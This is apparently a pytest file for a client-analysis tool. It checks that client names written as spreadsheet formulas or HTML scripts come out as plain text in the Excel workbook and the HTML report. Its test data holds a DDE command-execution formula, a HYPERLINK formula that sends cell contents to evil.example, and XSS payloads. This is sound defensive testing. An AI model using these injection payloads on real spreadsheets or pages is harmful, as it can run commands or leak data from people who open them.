"""Client names that are formulas or scripts, end to end: imported, run through the model, written
to the live workbook (`clientload export`) and the HTML report (`clientload report`), they stay
text — never a formula in Excel, never markup in the report."""

from __future__ import annotations

import csv
from pathlib import Path

import duckdb
import pytest

EVIL = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+SUM(1+1)",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    '<script>alert("x")</script>',
    '"><img src=x onerror=alert(1)>',
]


@pytest.fixture(scope="module")
def company(tmp_path_factory: pytest.TempPathFactory) -> Path:
    from clientload.generate.into import generate_workspace
    from clientload.ingest import import_files
    from clientload.run import run_model
    from clientload.workspace import open_workspace

    root = tmp_path_factory.mktemp("exports")
    ws = root / "co"
    generate_workspace(ws, clients=60, lines=6000, seed=5)
    with duckdb.connect(str(ws / "clientload.duckdb"), read_only=True) as con:
        rows = con.execute("SELECT c.client_id, c.manager FROM clients c JOIN (SELECT client_id, "
                           "sum(revenue) AS r FROM sales GROUP BY 1) s USING (client_id) "
                           f"ORDER BY s.r DESC LIMIT {len(EVIL)}").fetchall()
    renamed = root / "renamed.csv"
    with renamed.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["client_id", "name", "manager"])
        for (client_id, manager), name in zip(rows, EVIL, strict=True):
            writer.writerow([client_id, name, manager])
    import_files(open_workspace(ws), [renamed], "clients")
    run_model(ws)
    return ws


@pytest.mark.slow
def test_the_workbook_holds_formula_like_names_as_text(company: Path, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    from clientload.export import write_workbook
    from clientload.workspace import open_workspace

    path = write_workbook(open_workspace(company), tmp_path / "book.xlsx", "en")
    book = load_workbook(path)  # formulas as written, not computed values
    found: dict[str, str] = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                value = cell.value
                if isinstance(value, str) and any(e.strip() in value for e in EVIL[:7]):
                    if value in EVIL or value.strip() in {e.strip() for e in EVIL}:
                        found[value] = cell.data_type
                    # A formula of the workbook may refer to names only through cells.
                    assert not (cell.data_type == "f" and ("cmd|" in value or "evil" in value)), (
                        sheet.title, cell.coordinate, value)
    assert found, "the renamed clients are not in the workbook"
    assert set(found.values()) == {"s"}, found


@pytest.mark.slow
def test_the_report_shows_script_names_as_text(company: Path, tmp_path: Path) -> None:
    from clientload.report.html import write_report
    from clientload.workspace import open_workspace

    html = write_report(open_workspace(company), tmp_path / "report.html").read_text("utf-8")
    assert '<script>alert("x")</script>' not in html
    assert "<img src=x onerror" not in html


@pytest.mark.slow
def test_out_csv_keeps_names_verbatim_for_machines(company: Path) -> None:
    """`out/*.csv` is data for programs (the model's results as they are), not a spreadsheet
    export: names stay verbatim there; docs/security.md says to open them as text or use the
    workbook, whose cells are text."""
    text = (company / "out" / "client_metrics.csv").read_text("utf-8")
    assert "=cmd|" in text
